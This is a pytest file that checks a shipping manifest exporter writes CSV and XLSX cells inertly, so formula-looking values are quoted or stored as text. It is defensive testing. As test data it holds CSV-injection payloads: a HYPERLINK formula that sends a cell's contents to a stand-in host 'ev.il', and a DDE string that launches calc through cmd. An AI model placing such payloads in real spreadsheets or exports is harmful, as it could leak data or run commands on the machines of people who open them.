"""Exports are inert: a cell that looks like a formula is text in XLSX and quoted in CSV."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from jpgb_terminal.manifests import export_to_file, write_manifest
from jpgb_terminal.manifests.totals import Totals
from jpgb_terminal.manifests.writers import write_csv, write_xlsx
from jpgb_terminal.services.manifest_rows import build_manifest
from jpgb_terminal.store import Store
from jpgb_terminal.store.handles import BOX, HOLD, PARCEL
from tests.manifests.test_outbound import DAY, EXPORTER, START, pack
from tests.services.test_shipments import csv_bytes, row, stock

EVIL_STATION = '=HYPERLINK("http://ev.il/"&A1,"go")'
EVIL_OPERATOR = "@SUM(1+1)"
EVIL_VERSION = "+cmd|' /C calc'!A0"
EVIL = {EVIL_STATION, EVIL_OPERATOR, EVIL_VERSION}


@pytest.fixture
def evil_store(store: Store) -> Store:
    """A held parcel received that day and a box packed that day, whose station id, operator
    and price-list version were written by someone who meant harm."""
    from datetime import timedelta

    from jpgb_terminal.services.receiving import receive
    from jpgb_terminal.services.shipments import import_shipments
    from tests.factories import STAFF, jp12

    stock(store)
    with store.transaction() as s:
        data = csv_bytes(row(rid="SR-000001", parcels=f"{jp12(1)};{jp12(4)}"))
        import_shipments(s, STAFF, data, at=START - timedelta(days=1))
    pack(store, "SR-000001", [jp12(1), jp12(4)], 2345, START, 1)
    with store.transaction() as s:
        assert receive(s, STAFF, jp12(51), at=START + timedelta(hours=1)).held  # no pre-alert
    with store.transaction() as s:
        conn = s.connection()
        conn.execute(
            update(PARCEL).values(
                station_id=EVIL_STATION,
                received_by=EVIL_OPERATOR,
                received_at=START + timedelta(hours=1),
            )
        )
        conn.execute(update(HOLD).values(station_id=EVIL_STATION))
        conn.execute(
            update(BOX).values(
                station_id=EVIL_STATION, operator=EVIL_OPERATOR, price_list_version=EVIL_VERSION
            )
        )
    return store


@pytest.mark.parametrize("kind", ["inbound", "holds", "outbound"])
def test_csv_quotes_every_formula_cell(evil_store: Store, kind: str) -> None:
    out = io.StringIO()
    with evil_store.transaction() as s:
        write_manifest(build_manifest(s.connection(), EXPORTER, kind, DAY), "csv", out)
    _, *rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows, f"no {kind} rows to check"
    cells = [c for r in rows for c in r]
    assert "'" + EVIL_STATION in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if kind != "holds":
        assert "'" + EVIL_OPERATOR in cells


@pytest.mark.parametrize("kind", ["inbound", "holds", "outbound"])
def test_xlsx_writes_formula_cells_as_text(evil_store: Store, kind: str, tmp_path: Path) -> None:
    path = tmp_path / f"{kind}.xlsx"
    with evil_store.transaction() as s:
        export_to_file(build_manifest(s.connection(), EXPORTER, kind, DAY), "xlsx", path)
    wb = load_workbook(path)
    cells = [c for sheet in wb.worksheets for r in sheet.iter_rows() for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    evil = [c for c in cells if c.value in EVIL]
    assert EVIL_STATION in {c.value for c in evil}  # as it was, not quoted: it is text
    assert {c.data_type for c in evil} == {"s"}
    # The totals sheet names the station too, as text.
    assert EVIL_STATION in {c.value for r in wb["totals"].iter_rows() for c in r}
    if kind == "outbound":
        assert EVIL_VERSION in {c.value for c in evil}


def test_numbers_stay_numbers_and_every_lead_is_neutralised(tmp_path: Path) -> None:
    columns = ("text", "days_left", "grams")
    rows = [
        ("=1+2", -3, 1200),
        ("+81 3", -0.5, 0),
        ("-x", 7, -1),
        ("@a", 1, 2),
        ("\tx", 1, 2),
        ("\rx", 1, 2),
        ("plain = text", 1, 2),
    ]
    out = io.StringIO()
    write_csv(out, columns, rows)
    _, *back = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert [r[0] for r in back] == ["'=1+2", "'+81 3", "'-x", "'@a", "'\tx", "'\rx", "plain = text"]
    assert [r[1] for r in back] == ["-3", "-0.5", "7", "1", "1", "1", "1"]
    path = tmp_path / "x.xlsx"
    with path.open("wb") as f:
        write_xlsx(f, "x", columns, rows, Totals())
    sheet = load_workbook(path).worksheets[0]
    body = list(sheet.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in body[0]] == [("=1+2", "s"), (-3, "n"), (1200, "n")]
    assert [c.value for c in body[2]] == ["-x", 7, -1]
    assert {r[0].data_type for r in body} == {"s"}
    assert {r[1].data_type for r in body} == {"n"}
